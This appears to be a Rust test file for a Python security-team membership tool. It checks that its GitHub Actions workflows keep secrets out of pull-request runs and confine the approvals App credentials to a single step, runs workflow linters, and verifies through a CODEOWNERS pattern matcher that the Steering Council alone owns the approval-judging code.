    // The pull request workflow runs the head's code: no approvals there, no secrets.
    let (text, wf) = workflow("pull-request.yml");
    assert_eq!(keys(&wf.get("on").unwrap().1.value), ["pull_request"]);
    assert!(!text.contains("approvals --") && !text.contains("secrets."));
    // `--publish` appears in approvals.yml and the hourly sweep only.
    for (name, text) in workflows() {
        assert!(
            name == "approvals.yml" || name == "hourly.yml" || !text.contains("--publish"),
            "{name}"
        );
    }
}

/// Issue 21, item 5: the hourly workflow runs the approvals sweep, in a job
/// of its own (a failing advisory run does not stop it, nor the other way
/// round), with the approvals App's credentials in its psrt step only, from
/// the `psrt-approvals` environment: the account approvals.yml writes as.
#[test]
fn the_hourly_workflow_sweeps_the_approvals_with_the_approvals_app() {
    let wf =
        tree(&std::fs::read_to_string(repo_root().join(".github/workflows/hourly.yml")).unwrap());
    assert!(wf.get("on").and_then(|o| o.get("schedule")).is_some());
    let jobs = wf["jobs"].as_object().unwrap();
    let (name, job) = jobs
        .iter()
        .find(|(_, j)| {
            j["steps"].as_array().is_some_and(|s| {
                s.iter()
                    .any(|st| str_of(st, "run").is_some_and(|r| r.contains("psrt approvals")))
            })
        })
        .expect("a job runs psrt approvals");
    assert_eq!(job["environment"], "psrt-approvals", "{name}");
    assert!(job.get("needs").is_none(), "{name} waits on another job");
    // The same permissions approvals.yml's judging job has (its fallback token).
    let approvals = tree(
        &std::fs::read_to_string(repo_root().join(".github/workflows/approvals.yml")).unwrap(),
    );
    assert_eq!(
        job["permissions"], approvals["jobs"]["approvals"]["permissions"],
        "{name}"
    );
    let steps = job["steps"].as_array().unwrap();
    let with_secrets: Vec<&Value> = steps
        .iter()
        .filter(|s| {
            s.get("env")
                .is_some_and(|e| e.to_string().contains("secrets."))
        })
        .collect();
    assert_eq!(with_secrets.len(), 1, "{name}: one step holds the key");
    let step = with_secrets[0];
    assert_eq!(
        str_of(step, "run").as_deref(),
        Some("./target/release/psrt approvals --all --publish")
    );
    let env = step["env"].as_object().unwrap();
    let mut vars: Vec<&str> = env.keys().map(String::as_str).collect();
    vars.sort();
    assert_eq!(
        vars,
        [
            "GITHUB_TOKEN",
            "PSRT_GITHUB_APP_ID",
            "PSRT_GITHUB_APP_KEY",
            "PSRT_MODE"
        ]
    );
    // The other jobs of the workflow hold nothing of the approvals App.
    for (other, j) in jobs.iter().filter(|(n, _)| *n != name) {
        assert_ne!(j["environment"], "psrt-approvals", "{other}");
    }
}

fn linter(var: &str) -> String {
    std::env::var(var).unwrap_or_else(|_| {
        panic!("{var} is not set: run scripts/test, which installs the workflow linters")
    })
}

#[test]
#[ignore = "needs zizmor and actionlint: run scripts/test"]
fn zizmor_and_actionlint_report_nothing() {
    let dir = repo_root().join(".github/workflows");
    for persona in ["regular", "auditor"] {
        let out = std::process::Command::new(linter("PSRT_ZIZMOR"))
            .args([
                "--offline",
                "--no-progress",
                "--color",
                "never",
                "--persona",
                persona,
            ])
            .arg(&dir)
            .env_remove("GITHUB_TOKEN")
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            out.status.success() && text.contains("No findings to report"),
            "zizmor ({persona}):\n{text}"
        );
    }
    let files: Vec<_> = workflows().iter().map(|(n, _)| dir.join(n)).collect();
    let out = std::process::Command::new(linter("PSRT_ACTIONLINT"))
        .args(["-no-color", "-shellcheck="])
        .args(&files)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success() && text.trim().is_empty(),
        "actionlint:\n{text}"
    );
}

// ---- CODEOWNERS ---------------------------------------------------------------

/// CODEOWNERS rules, in order: (pattern, owners).
fn codeowners() -> Vec<(String, Vec<String>)> {
    let text = std::fs::read_to_string(repo_root().join(".github/CODEOWNERS")).unwrap();
    text.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| {
            let mut words = l.split_whitespace();
            let pattern = words.next().unwrap_or_default().to_owned();
            (pattern, words.map(str::to_owned).collect())
        })
        .collect()
}

/// Does a CODEOWNERS pattern (gitignore syntax, as far as psrt's file uses
/// it: `*`, `*.ext`, `/file`, `/dir/`, `dir/`) match `path`?
fn matches(pattern: &str, path: &str) -> bool {
    if pattern == "*" {
        return true;
    }
    if let Some(ext) = pattern.strip_prefix("*.") {
        return path.ends_with(&format!(".{ext}"));
    }
    let anchored = pattern.starts_with('/');
    let p = pattern.trim_start_matches('/');
    let dir = p.ends_with('/');
    let p = p.trim_end_matches('/');
    let candidates: Vec<String> = if anchored {
        vec![path.to_owned()]
    } else {
        // Unanchored: at any depth.
        let parts: Vec<&str> = path.split('/').collect();
        (0..parts.len()).map(|i| parts[i..].join("/")).collect()
    };
    candidates.iter().any(|c| {
        if dir {
            c.starts_with(&format!("{p}/"))
        } else {
            c == p || c.starts_with(&format!("{p}/"))
        }
    })
}

/// The owners of `path`: the last matching rule wins.
fn owners_of<'a>(rules: &'a [(String, Vec<String>)], path: &str) -> Option<&'a [String]> {
    rules
        .iter()
        .rev()
        .find(|(p, _)| matches(p, path))
        .map(|(_, o)| o.as_slice())
}

fn tracked_files() -> Vec<String> {
    let out = std::process::Command::new("git")
        .args(["ls-files", "-z"])
        .current_dir(repo_root())
        .output()
        .expect("git ls-files (the tests run in a clone)");
    assert!(out.status.success(), "git ls-files failed");
    String::from_utf8_lossy(&out.stdout)
        .split('\0')
        .filter(|p| !p.is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn every_tracked_path_has_an_owner() {
    let rules = codeowners();
    let files = tracked_files();
    assert!(files.len() > 50, "{} tracked files?", files.len());
    let unowned: Vec<&String> = files
        .iter()
        .filter(|f| owners_of(&rules, f).is_none_or(|o| o.is_empty()))
        .collect();
    assert!(unowned.is_empty(), "paths without an owner: {unowned:#?}");
    for (path, owner) in [
        ("roster.yaml", "@python/steering-council"),
        (".github/workflows/nightly.yml", "@python/steering-council"),
        (
            ".github/workflows/approvals.yml",
            "@python/steering-council",
        ),
        (".github/CODEOWNERS", "@python/steering-council"),
        ("src/main.rs", "@python/steering-council"),
        ("src/approvals/rule.rs", "@python/steering-council"),
        ("Cargo.toml", "@python/steering-council"),
        ("Cargo.lock", "@python/steering-council"),
        ("src/sync/mod.rs", "@python/psrt-admins"),
        ("scripts/test", "@python/psrt-admins"),
        ("templates/deadline-warning.txt", "@python/psrt-admins"),
    ] {
        assert_eq!(
            owners_of(&rules, path),
            Some(&[owner.to_owned()][..]),
            "{path}"
        );
    }
    // Owners are teams of the org or people, never nothing.
    for (pattern, owners) in &rules {
        assert!(
            owners.iter().all(|o| o.starts_with('@') || o.contains('@')),
            "{pattern}: {owners:?}"
        );
    }
}

/// The source files a module path names: `src/x.rs`, or every file under
/// `src/x/`.
fn module_files(module: &str) -> Vec<String> {
    let file = format!("src/{module}.rs");
    if repo_root().join(&file).is_file() {
        return vec![file];
    }
    tracked_files()
        .into_iter()
        .filter(|f| f.starts_with(&format!("src/{module}/")) && f.ends_with(".rs"))
        .collect()
}

/// The top-level modules a file names (`crate::roster::…`, `crate::{a, b}`).
fn crate_modules(text: &str) -> Vec<String> {
    let ident = |s: &str| -> String {
        s.chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect()
    };
    let mut out = Vec::new();
    for (i, _) in text.match_indices("crate::") {
        let rest = &text[i + 7..];
        if let Some(group) = rest.strip_prefix('{') {
            let inner = group.split('}').next().unwrap_or_default();
            out.extend(inner.split(',').map(|p| ident(p.trim())));
        } else {
            out.push(ident(rest));
        }
    }
    out.retain(|m| !m.is_empty());
    out
}

/// Issue 21, item 5: the code that judges membership (everything the
/// approvals command runs or reads, the build inputs and the workflows) is
/// owned by the Steering Council alone. The set is computed from the code:
/// from the binary's entry and the approvals command, every module they
/// name, and every module those name; `commands::*` other than approvals
/// is not followed (cli.rs, the Council's, routes `approvals` there alone).
#[test]
fn the_judge_is_the_councils_alone() {
    let rules = codeowners();
    let mut files: Vec<String> = [
        "src/main.rs",
        "src/lib.rs",
        "src/cli.rs",
        "src/logging.rs",
        "src/commands/mod.rs",
        "src/commands/approvals.rs",
    ]
    .map(str::to_owned)
    .to_vec();
    let mut modules: Vec<String> = vec!["approvals".into()];
    let mut seen = std::collections::BTreeSet::new();
    let mut read = std::collections::BTreeSet::new();
    while !files.is_empty() || !modules.is_empty() {
        for m in std::mem::take(&mut modules) {
            if m != "commands" && seen.insert(m.clone()) {
                files.extend(module_files(&m));
            }
        }
        for f in std::mem::take(&mut files) {
            if read.insert(f.clone()) {
                let text = std::fs::read_to_string(repo_root().join(&f)).unwrap();
                modules.extend(crate_modules(&text));
            }
        }
    }
    let must: Vec<String> = read
        .into_iter()
        .chain(
            tracked_files()
                .into_iter()
                .filter(|f| f.starts_with(".github/") || f.starts_with("Cargo.")),
        )
        .chain(
            [
                "build.rs",
                ".cargo/config.toml",
                "rust-toolchain",
                "rust-toolchain.toml",
                "CODEOWNERS",
                "docs/CODEOWNERS",
            ]
            .map(str::to_owned),
        )
        .collect();
    for needed in [
        "src/approvals/rule.rs",
        "src/roster/model.rs",
        "src/github/transport.rs",
    ] {
        assert!(
            must.iter().any(|f| f == needed),
            "{needed} not in {must:#?}"
        );
    }
    let council = ["@python/steering-council".to_owned()];
    let wrong: Vec<String> = must
        .iter()
        .filter(|f| owners_of(&rules, f) != Some(&council[..]))
        .map(|f| format!("{f}: {:?}", owners_of(&rules, f)))
        .collect();
    assert!(
        wrong.is_empty(),
        "the judge's files must be owned by the Steering Council alone:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn the_codeowners_matcher_reads_gitignore_patterns() {
    assert!(matches("*", "a/b/c"));
    assert!(matches("/roster.yaml", "roster.yaml"));
    assert!(!matches("/roster.yaml", "examples/roster.yaml"));
    assert!(matches("/.github/", ".github/workflows/x.yml"));
    assert!(!matches("/.github/", ".github"));
    assert!(matches("templates/", "x/templates/a.txt"));
    assert!(matches("*.rs", "src/lib.rs"));
    let rules = vec![
        ("*".to_owned(), vec!["@a".to_owned()]),
        ("/roster.yaml".to_owned(), vec!["@b".to_owned()]),
    ];
    assert_eq!(
        owners_of(&rules, "roster.yaml"),
        Some(&["@b".to_owned()][..])
    );
    assert_eq!(owners_of(&rules, "src/x.rs"), Some(&["@a".to_owned()][..]));
}
